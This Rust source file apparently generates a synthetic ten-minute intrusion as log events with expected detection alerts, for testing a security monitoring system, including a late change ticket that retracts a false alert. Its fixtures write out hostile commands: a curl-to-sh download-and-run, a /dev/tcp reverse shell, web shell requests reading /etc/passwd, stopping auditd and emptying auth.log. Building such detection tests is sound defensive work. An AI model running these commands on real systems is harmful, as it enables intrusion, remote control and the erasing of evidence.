//! One intrusion over ten minutes, and an honest administrator whose ticket arrives late.

use rand::Rng;
use rand::seq::SliceRandom;

use crate::company::{CompanyHost, LENGTH_SECONDS};
use crate::lines::WebRequest;
use crate::scenario::DeliveryTransport;
use crate::script::{AgentReport, BlockedPacket, CronJob, LoginMethod, Script, Ticket};

/// Start of the intrusion, in seconds.
const BEGIN: i64 = 300;

/// Accounts that do not exist in the company.
const UNKNOWN_ACCOUNTS: [&str; 5] = ["admin", "oracle", "postgres", "test", "ubuntu"];

/// People and hosts of the intrusion, drawn from the seed.
struct Cast {
    attacker: String,
    /// The account whose password is guessed.
    victim: String,
    /// The administrator whose ticket arrives late.
    administrator: String,
    jump: String,
    jump_address: String,
    web: String,
    database: CompanyHost,
    /// Hosts that the intruder logs in to from the jump host.
    visited: Vec<String>,
}

/// Writes the whole intrusion.
pub(crate) fn write(script: &mut Script<'_>) {
    let cast = cast(script);
    scan(script, &cast);
    guess(script, &cast);
    take_root(script, &cast);
    stay(script, &cast);
    spread(script, &cast);
    web_server(script, &cast);
    tidy_up(script, &cast);
    late_ticket(script, &cast);
}

fn cast(script: &mut Script<'_>) -> Cast {
    let company = script.company;
    let mut applications = company.applications.clone();
    applications.shuffle(&mut script.rng);
    let web = script.rng.random_range(0..company.web.len());
    let database = script.rng.random_range(0..company.databases.len());
    Cast {
        attacker: format!("203.0.113.{}", script.rng.random_range(2..250)),
        victim: company.people[0].clone(),
        administrator: company.people[1].clone(),
        jump: company.jump.name.clone(),
        jump_address: company.jump.address.clone(),
        web: company.web[web].name.clone(),
        database: company.databases[database].clone(),
        visited: applications
            .into_iter()
            .take(8)
            .map(|host| host.name)
            .collect(),
    }
}

fn scan(script: &mut Script<'_>, cast: &Cast) {
    let Cast {
        attacker,
        jump,
        jump_address,
        ..
    } = cast;
    script.narrate(BEGIN, format!("{attacker} scans the ports of {jump}"));
    for n in 0..40_u16 {
        let packet = BlockedPacket {
            incoming: true,
            source: attacker,
            destination: jump_address,
            port: 20 + 7 * n,
        };
        script.blocked(BEGIN + i64::from(n), jump, &packet);
    }
    script.expect(
        "firewall_port_scan",
        &[attacker, jump_address],
        BEGIN,
        BEGIN + 39,
        40,
    );
}

fn guess(script: &mut Script<'_>, cast: &Cast) {
    let Cast {
        attacker,
        victim,
        jump,
        ..
    } = cast;
    let begin = BEGIN + 60;
    script.narrate(
        begin,
        format!("{attacker} guesses passwords of twelve accounts on {jump}"),
    );
    let known = &script.company.people[2..8];
    let accounts: Vec<(String, bool)> = UNKNOWN_ACCOUNTS
        .iter()
        .map(|&user| (user.to_owned(), false))
        .chain(known.iter().map(|user| (user.clone(), true)))
        .chain([(victim.clone(), true)])
        .collect();
    // Two rounds over twelve accounts, an attempt every five seconds.
    let attempts: Vec<&(String, bool)> = accounts.iter().chain(&accounts).collect();
    for (second, (user, exists)) in (begin..).step_by(5).zip(&attempts) {
        script.ssh_refused(second, jump, user, *exists, attacker);
    }
    let last = begin + 5 * (attempts.len() as i64 - 1);
    script.expect(
        "ssh_password_guessing",
        &[attacker],
        begin,
        last,
        attempts.len() as u64,
    );

    let login = last + 15;
    script.narrate(
        login,
        format!("a guess was right: {attacker} logs in as {victim}"),
    );
    script.ssh_accepted(login, jump, victim, attacker, LoginMethod::Password);
    // Each unknown account was tried twice, starting with the very first attempt.
    let count = 2 * UNKNOWN_ACCOUNTS.len() as u64 + 1;
    script.expect("ssh_guessed_login", &[attacker], begin, login, count);
}

fn take_root(script: &mut Script<'_>, cast: &Cast) {
    let Cast {
        attacker,
        victim,
        jump,
        ..
    } = cast;
    let second = BEGIN + 240;
    script.narrate(
        second,
        format!("{victim} becomes root on {jump} and runs what is downloaded"),
    );
    let command = format!("/bin/sh -c curl -fsSL http://{attacker}/i.sh | sh");
    script.sudo(second, jump, victim, &command, &["sudo_download_and_run"]);
    script.expect("sudo_download_and_run", &[jump], second, second, 1);

    let line = format!("bash -c bash -i >& /dev/tcp/{attacker}/4444 0>&1");
    script.report(&AgentReport {
        second: second + 20,
        sent: second + 20,
        host: jump,
        kind: "process_creation",
        logsource: "category=process_creation,product=linux",
        fields: &[
            ("Image", "/usr/bin/bash"),
            ("CommandLine", &line),
            ("ParentImage", "/bin/sh"),
            ("User", "root"),
        ],
        members: &["process_reverse_shell"],
    });
    script.expect(
        "process_reverse_shell",
        &[jump],
        second + 20,
        second + 20,
        1,
    );

    script.sudo(second + 40, jump, victim, "/bin/bash", &["sudo_root_shell"]);
    script.expect("sudo_root_shell", &[jump], second + 40, second + 40, 1);
}

fn stay(script: &mut Script<'_>, cast: &Cast) {
    let Cast { victim, jump, .. } = cast;
    let added = BEGIN + 290;
    script.narrate(
        added,
        format!("a new administrator's account and a cron job appear on {jump}"),
    );
    let text = "new user: name=svc-sync, UID=1207, GID=1207, home=/home/svc-sync, \
                shell=/bin/bash, from=/dev/pts/0";
    script.account(added, jump, "useradd", text, "account_created");
    let text = "add 'svc-sync' to group 'sudo'";
    script.account(added + 6, jump, "usermod", text, "account_privileged");
    script.expect("account_created_with_rights", &[jump], added, added + 6, 2);

    let seconds: Vec<i64> = (BEGIN + 360..LENGTH_SECONDS).step_by(60).collect();
    for &second in &seconds {
        let job = CronJob {
            user: "root",
            command: "/dev/shm/.sync/update.sh >/dev/null 2>&1",
        };
        script.cron(
            DeliveryTransport::Tcp,
            second,
            jump,
            job,
            &["cron_from_writable_folder"],
        );
    }
    let last = seconds[seconds.len() - 1];
    let count = seconds.len() as u64;
    script.expect(
        "cron_from_writable_folder",
        &[jump],
        BEGIN + 360,
        last,
        count,
    );

    // This change never gets a ticket.
    let command = "/usr/bin/systemctl stop auditd";
    let members = ["sudo_maintenance", "sudo_watch_stopped"];
    script.sudo(BEGIN + 330, jump, victim, command, &members);
    script.expect("sudo_watch_stopped", &[jump], BEGIN + 330, BEGIN + 330, 1);
    script.expect(
        "sudo_without_change_ticket",
        &[victim],
        BEGIN + 330,
        BEGIN + 330,
        1,
    );
}

fn spread(script: &mut Script<'_>, cast: &Cast) {
    let Cast {
        attacker,
        victim,
        jump,
        jump_address,
        database,
        visited,
        ..
    } = cast;
    let begin = BEGIN + 370;
    script.narrate(
        begin,
        format!("{victim} goes from {jump} to {} more hosts", visited.len()),
    );
    for (second, host) in (begin..).step_by(12).zip(visited) {
        script.ssh_accepted(second, host, victim, jump_address, LoginMethod::PublicKey);
    }
    let last = begin + 12 * (visited.len() as i64 - 1);
    script.expect(
        "ssh_login_fan_out",
        &[jump_address, victim],
        begin,
        last,
        visited.len() as u64,
    );

    let CompanyHost {
        name: host,
        address,
    } = database;
    let begin = BEGIN + 470;
    script.narrate(
        begin,
        format!("{host} tries to reach {attacker}, and its firewall says no"),
    );
    for n in 0..12 {
        let packet = BlockedPacket {
            incoming: false,
            source: address,
            destination: attacker,
            port: 4444,
        };
        script.blocked(begin + 10 * n, host, &packet);
    }
    script.expect("firewall_denied_egress", &[address], begin, begin + 110, 12);
}

fn web_server(script: &mut Script<'_>, cast: &Cast) {
    let Cast { attacker, web, .. } = cast;
    let begin = BEGIN + 480;
    script.narrate(
        begin,
        format!("{attacker} looks around on {web}, and finds the shell it left"),
    );
    let browser = WebRequest {
        client: attacker,
        method: "GET",
        target: "",
        status: 404,
        bytes: 162,
        agent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    };
    for n in 0..30 {
        let target = format!("/backup/{}.zip", 2_000 + n);
        let request = WebRequest {
            target: &target,
            ..browser
        };
        script.request(
            DeliveryTransport::Tcp,
            begin + n,
            web,
            &request,
            &["web_missing_page"],
        );
    }
    script.expect("web_missing_pages", &[attacker], begin, begin + 29, 30);

    let begin = BEGIN + 530;
    for (second, command) in (begin..)
        .step_by(8)
        .zip(["id", "uname%20-a", "cat%20/etc/passwd"])
    {
        let target = format!("/uploads/2026/avatar.php?cmd={command}");
        let request = WebRequest {
            target: &target,
            status: 200,
            bytes: 911,
            ..browser
        };
        script.request(
            DeliveryTransport::Tcp,
            second,
            web,
            &request,
            &["web_shell_request"],
        );
    }
    script.expect("web_shell_request", &[web], begin, begin + 16, 3);
}

fn tidy_up(script: &mut Script<'_>, cast: &Cast) {
    let Cast { victim, jump, .. } = cast;
    let second = BEGIN + 590;
    script.narrate(second, format!("the log of logins on {jump} is emptied"));
    let command = "/usr/bin/truncate -s 0 /var/log/auth.log";
    script.sudo(second, jump, victim, command, &["sudo_log_tampering"]);
    script.expect("sudo_log_tampering", &[jump], second, second, 1);
}

fn late_ticket(script: &mut Script<'_>, cast: &Cast) {
    let name = &cast.administrator;
    let second = BEGIN + 400;
    let host = script.company.applications[0].name.clone();
    let commands = [
        "/usr/bin/apt-get install nginx",
        "/usr/bin/systemctl restart nginx",
    ];
    for (second, command) in (second..).step_by(20).zip(commands) {
        script.sudo(second, &host, name, command, &["sudo_maintenance"]);
    }
    script.narrate(
        second,
        format!("{name} does maintenance on {host}; no ticket is known"),
    );
    script.expect(
        "sudo_without_change_ticket",
        &[name],
        second,
        second + 20,
        2,
    );
    script.expect_retraction();

    let sent = second + 360;
    script.ticket(&Ticket {
        granted: second - 240,
        sent,
        user: name,
        number: 48_113,
    });
    script.narrate(
        sent,
        format!("the ticket system catches up: {name} had a ticket, so the alert was wrong"),
    );
}
